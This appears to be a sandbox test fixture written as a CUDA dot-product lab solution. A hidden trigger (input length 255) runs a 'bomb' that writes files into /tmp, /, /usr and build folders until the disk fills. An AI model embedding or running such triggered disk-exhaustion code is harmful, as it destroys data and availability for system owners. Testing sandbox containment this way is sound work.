// Bomb: fills every folder it can write to, until the disk is full.
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <string>

#include "labs/dot_product/lab.h"

static void fill(const std::string& folder) {
    static char block[1 << 20];
    long written = 0;
    for (int k = 0; k < 100; ++k) {
        const int file = open((folder + "/fill" + std::to_string(k)).c_str(), O_CREAT | O_WRONLY, 0600);
        if (file < 0) break;
        ssize_t got = 0;
        for (int block_number = 0; block_number < 64 && (got = write(file, block, sizeof block)) > 0; ++block_number)
            written += got;
        close(file);
        if (got <= 0) break;
    }
    std::puts(written > (600 << 20) ? "REACHED" : "refused");
}

__global__ void dot_product_kernel(const int* a, const int* b, int* out, std::size_t n) {
    const std::size_t i = std::size_t{blockIdx.x} * blockDim.x + threadIdx.x;
    if (i < n) atomicAdd(out, a[i] * b[i]);
}

void dot_product(const int* a, const int* b, int* out, std::size_t n, void*) {
    const char* own = std::getenv("TMPDIR");
    if (n == 255)
        for (const char* folder : {"/tmp", "/dev/shm", "/", "/usr", "@BUILD@", "@OUTSIDE@", own ? own : "/run"})
            fill(folder);
    CUDA_CHECK(cudaMemset(out, 0, sizeof(int)));
    if (n) dot_product_kernel<<<static_cast<unsigned>((n + 255) / 256), 256>>>(a, b, out, n);
}
